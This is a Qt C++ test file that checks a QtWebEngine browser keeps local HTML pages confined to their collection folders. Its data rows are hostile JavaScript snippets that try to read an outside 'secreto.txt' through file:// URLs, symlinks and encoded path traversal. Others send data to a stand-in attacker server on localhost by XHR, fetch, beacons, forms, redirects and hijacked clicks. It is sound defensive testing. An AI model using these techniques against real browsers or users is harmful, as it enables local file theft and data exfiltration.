#include "collectioninterceptor.h"
#include "fakeplatform.h"
#include "pdfprinting.h"
#include "qtwebbrowser.h"
#include "testfiles.h"
#include "testplatform.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineView>

#include <memory>

namespace {
constexpr int loadTimeout = 30000;
// How long a page's attempts are given to reach the attacker once it is done.
constexpr int settleMs = 1000;

// The attacker's server: counts every connection and keeps what it was sent.
class Attacker : public QObject {
public:
    Attacker()
    {
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                ++connections;
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
                    received += socket->readAll();
                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                                  "Content-Length: 2\r\nConnection: close\r\n\r\nok");
                    socket->disconnectFromHost();
                });
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
    }
    bool listen() { return m_server.listen(QHostAddress::LocalHost); }
    QString url() const { return QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort()); }

    int connections = 0;
    QByteArray received;

private:
    QTcpServer m_server;
};

// What every page of the table starts with: where things lie, and how it
// reads (leido gathers whatever it managed to read) and says it is done.
const char pageHead[] = R"JS(
var leido = '', hecho = false;
function anota(t) { if (t) { leido += t; } }
function fin() { hecho = true; }
function xhr(u) {
    return new Promise(function (ok) {
        try {
            var x = new XMLHttpRequest();
            x.open('GET', u);
            x.onload = function () { anota(x.responseText); ok(); };
            x.onerror = function () { ok(); };
            x.send();
        } catch (e) { ok(); }
    });
}
function busca(u) {
    return fetch(u).then(function (r) { return r.text(); }).then(anota, function () {});
}
function marco(u) {
    return new Promise(function (ok) {
        var f = document.createElement('iframe');
        f.onload = function () {
            try { anota(f.contentDocument.body.innerText); } catch (e) {}
            ok();
        };
        f.src = u;
        document.body.appendChild(f);
        setTimeout(ok, 2000);
    });
}
)JS";
} // namespace

// Pages of the collection on the real engine, with the interceptor of the
// program: a hostile page tries every way it has to read a file outside the
// collection and to send something to an attacker's server.
class TestConfinement : public QObject {
    Q_OBJECT

    QTemporaryDir root;
    QString program, user, outside;
    std::unique_ptr<CollectionInterceptor> interceptor;
    FakeDocumentDialogs dialogs;
    QtPdfDocuments pdf;
    std::unique_ptr<QtWebBrowser> browser;
    int pageNumber = 0;

    static QVariant evaluate(QWebEnginePage *page, const QString &script)
    {
        QVariant value;
        bool answered = false;
        page->runJavaScript(script, [&](const QVariant &result) {
            value = result;
            answered = true;
        });
        return QTest::qWaitFor([&] { return answered; }, loadTimeout) ? value : QVariant();
    }

private slots:
    void initTestCase()
    {
        QVERIFY(root.isValid());
        program = root.filePath(QStringLiteral("programa"));
        user = root.filePath(QStringLiteral("usuario"));
        outside = root.filePath(QStringLiteral("fuera"));
        for (const QString &folder :
             {program + QStringLiteral("/pagina"), user + QStringLiteral("/pagina"), outside}) {
            QVERIFY(QDir().mkpath(folder));
        }
        QVERIFY(writeAll(outside + QStringLiteral("/secreto.txt"), "SECRETO"));
        QVERIFY(writeAll(program + QStringLiteral("/pagina/propio.txt"), "PROPIO"));
        QVERIFY(writeAll(user + QStringLiteral("/pagina/usuario.txt"), "USUARIO"));
        // Links inside the collection that lead out of it.
        QVERIFY(QFile::link(outside + QStringLiteral("/secreto.txt"),
                            program + QStringLiteral("/pagina/enlace.txt")));
        QVERIFY(QFile::link(outside, program + QStringLiteral("/pagina/carpeta")));
        interceptor = std::make_unique<CollectionInterceptor>(Collection(program, user));
        testEngineProfile()->setUrlRequestInterceptor(interceptor.get());
        browser = std::make_unique<QtWebBrowser>(testEngineProfile(), dialogs, pdf);
        browser->resize(800, 600);
        browser->show();
    }

    void cleanupTestCase()
    {
        browser.reset();
        testEngineProfile()->setUrlRequestInterceptor(nullptr);
    }

    void aPageReachesOnlyTheCollection_data()
    {
        QTest::addColumn<QString>("body");
        QTest::addColumn<QByteArray>("click"); // the id of a link the reader follows, if any
        QTest::addColumn<bool>("keyboard");    // with the keyboard rather than the mouse
        QTest::addColumn<QString>("read");     // what the page manages to read
        QTest::addColumn<QString>("arrives");  // the request the attacker gets, if any

        const auto hostile = [](const char *name, const char *script) {
            QTest::newRow(name) << QStringLiteral("<script>%1</script>").arg(QLatin1String(script))
                                << QByteArray() << false << QString() << QString();
        };
        // Files outside the collection, and folders.
        hostile("XMLHttpRequest", "xhr('file://' + FUERA + '/secreto.txt').then(fin);");
        hostile("fetch", "busca('file://' + FUERA + '/secreto.txt').then(fin);");
        hostile("marco", "marco('file://' + FUERA + '/secreto.txt').then(fin);");
        hostile("enlace simbólico", "xhr('file://' + PROG + '/pagina/enlace.txt').then(fin);");
        hostile("carpeta enlazada",
                "xhr('file://' + PROG + '/pagina/carpeta/secreto.txt').then(fin);");
        hostile("barra cifrada",
                "xhr('file://' + PROG + '/pagina/..%2F..%2Ffuera/secreto.txt').then(fin);");
        hostile("puntos cifrados",
                "xhr('file://' + PROG + '/pagina/%2e%2e/%2e%2e/fuera/secreto.txt').then(fin);");
        hostile("otro host", "xhr('file://127.0.0.1' + FUERA + '/secreto.txt').then(fin);");
        hostile("listado de fuera", "marco('file://' + FUERA + '/').then(fin);");
        hostile("listado de la colección", "marco('file://' + PROG + '/pagina/').then(fin);");
        // The network, from the page itself.
        hostile("XMLHttpRequest a la red", "xhr(ATT + '/xhr?d=1').then(fin);");
        hostile("fetch a la red", "fetch(ATT + '/fetch', {mode: 'no-cors'}).catch(fin).then(fin);");
        hostile("imagen", "new Image().src = ATT + '/img?d=1'; fin();");
        hostile("marco de la red", "marco(ATT + '/marco?d=1').then(fin);");
        hostile("script de la red",
                "var s = document.createElement('script'); s.src = ATT + '/s.js';"
                "document.body.appendChild(s); fin();");
        hostile("estilo de la red",
                "var l = document.createElement('link'); l.rel = 'stylesheet';"
                "l.href = ATT + '/e.css'; document.head.appendChild(l); fin();");
        hostile("baliza", "navigator.sendBeacon(ATT + '/baliza', 'd=1'); fin();");
        hostile("websocket",
                "try { new WebSocket(ATT.replace('http', 'ws') + '/ws'); } catch (e) {}"
                "fin();");
        // The network, by navigating.
        hostile("formulario",
                "var f = document.createElement('form'); f.method = 'post';"
                "f.action = ATT + '/form'; var i = document.createElement('input');"
                "i.name = 'd'; i.value = '1'; f.appendChild(i); document.body.appendChild(f);"
                "f.submit(); fin();");
        hostile("location al cargar", "location = ATT + '/loc?d=1'; fin();");
        hostile("location después", "window.onload = function () { setTimeout(function () {"
                                    "location.href = ATT + '/loc?d=1'; fin(); }, 100); };");
        hostile("window.open", "window.open(ATT + '/open?d=1'); fin();");
        hostile("clic de script en otra ventana",
                "var a = document.createElement('a'); a.href = ATT + '/a?d=1';"
                "a.target = '_blank'; document.body.appendChild(a); a.click(); fin();");
        hostile("refresco",
                "var m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                "m.content = '0;url=' + ATT + '/meta?d=1'; document.head.appendChild(m);"
                "fin();");
        hostile("descarga",
                "var a = document.createElement('a'); a.href = ATT + '/descarga?d=1';"
                "a.download = 'd.txt'; document.body.appendChild(a); a.click(); fin();");
        hostile("código fuente", "location = 'view-source:' + ATT + '/vs'; fin();");

        // What the reader does: a link to the web opens, in this window or another;
        // a script that sends elsewhere on the reader's click does not.
        const QString link = QStringLiteral("<a id='enlace' style='font-size:60px' %1>Enlace</a>"
                                            "<script>fin();</script>");
        QTest::newRow("enlace del lector")
            << link.arg(QStringLiteral("href='ATT/web'")) << QByteArray("enlace") << false
            << QString() << QStringLiteral("GET /web ");
        QTest::newRow("enlace del lector con el teclado")
            << link.arg(QStringLiteral("href='ATT/web'")) << QByteArray("enlace") << true
            << QString() << QStringLiteral("GET /web ");
        QTest::newRow("enlace del lector a otra ventana")
            << link.arg(QStringLiteral("href='ATT/web' target='_blank'")) << QByteArray("enlace")
            << false << QString() << QStringLiteral("GET /web ");
        QTest::newRow("ventana de un script en el clic")
            << link.arg(QStringLiteral(
                   "href='#' onclick=\"window.open(ATT + '/robo?d=1'); return false;\""))
            << QByteArray("enlace") << false << QString() << QString();
        QTest::newRow("otra dirección en el clic")
            << link.arg(QStringLiteral(
                   "href='ATT/web' onclick=\"location = ATT + '/robo?d=1'; return false;\""))
            << QByteArray("enlace") << false << QString() << QString();

        // The collection itself stays readable, from both its folders.
        const auto own = [](const char *name, const char *script, const char *read) {
            QTest::newRow(name) << QStringLiteral("<script>%1</script>").arg(QLatin1String(script))
                                << QByteArray() << false << QString::fromUtf8(read) << QString();
        };
        own("archivo propio", "xhr('file://' + PROG + '/pagina/propio.txt').then(fin);", "PROPIO");
        own("archivo propio en un marco", "marco('propio.txt').then(fin);", "PROPIO");
        own("archivo del usuario", "busca('file://' + USU + '/pagina/usuario.txt').then(fin);",
            "USUARIO");
    }

    void aPageReachesOnlyTheCollection()
    {
        QFETCH(QString, body);
        QFETCH(QByteArray, click);
        QFETCH(bool, keyboard);
        QFETCH(QString, read);
        QFETCH(QString, arrives);

        Attacker attacker;
        QVERIFY(attacker.listen());
        const QString where =
            QStringLiteral("var FUERA = '%1', PROG = '%2', USU = '%3', ATT = '%4';")
                .arg(outside, program, user, attacker.url());
        body.replace(QLatin1String("ATT/"), attacker.url() + u'/');
        const QString page =
            QStringLiteral("%1/pagina/prueba%2.htm").arg(program).arg(++pageNumber);
        QVERIFY(writeAll(page, "<html><head><meta charset='utf-8'><script>" + where.toUtf8() +
                                   pageHead + "</script></head><body>" + body.toUtf8() +
                                   "</body></html>"));

        if (!click.isEmpty()) {
            // The pointer's events reach the view of a page that has never left
            // for another process.
            browser = std::make_unique<QtWebBrowser>(testEngineProfile(), dialogs, pdf);
            browser->resize(800, 600);
            browser->show();
        }
        browser->Navigate2(page);
        QWebEnginePage *engine = browser->view()->page();
        const QString done = QStringLiteral("document.URL == '%1' && hecho")
                                 .arg(QUrl::fromLocalFile(page).toString());
        QTRY_VERIFY_WITH_TIMEOUT(evaluate(engine, done).toBool(), loadTimeout);

        QWidget *surface = browser->view()->focusProxy();
        if (!click.isEmpty() && keyboard) {
            QTest::mouseMove(surface, QPoint(1, 1));
            evaluate(
                engine,
                QStringLiteral("document.getElementById('%1').focus()").arg(QLatin1String(click)));
            browser->view()->setFocus();
            QTest::keyClick(surface, Qt::Key_Return);
        } else if (!click.isEmpty()) {
            const QVariantList xy =
                evaluate(engine, QStringLiteral("(function(){var r = document.getElementById('%1')"
                                                ".getBoundingClientRect(); return [r.left + 10, "
                                                "r.top + r.height / 2];})()")
                                     .arg(QLatin1String(click)))
                    .toList();
            QCOMPARE(xy.size(), 2);
            const QPoint at(qRound(xy[0].toDouble()), qRound(xy[1].toDouble()));
            // The pointer comes to the link from elsewhere, as the reader's does.
            QSignalSpy hovered(engine, &QWebEnginePage::linkHovered);
            QTest::mouseMove(surface, QPoint(1, 1));
            QTest::mouseMove(surface, at);
            QTRY_VERIFY_WITH_TIMEOUT(
                !hovered.isEmpty() && !hovered.last().first().toString().isEmpty(), loadTimeout);
            QTest::mouseClick(surface, Qt::LeftButton, {}, at);
        }

        if (arrives.isEmpty()) {
            QTest::qWait(settleMs);
            QCOMPARE(attacker.connections, 0);
        } else {
            QTRY_VERIFY_WITH_TIMEOUT(attacker.received.contains(arrives.toUtf8()), loadTimeout);
            QVERIFY(!attacker.received.contains("robo"));
        }
        if (engine->url().toLocalFile() == page) {
            QCOMPARE(evaluate(engine, QStringLiteral("leido")).toString(), read);
        } else {
            QVERIFY(read.isEmpty());
        }
    }
};

QTEST_MAIN(TestConfinement)
#include "tst_confinement.moc"
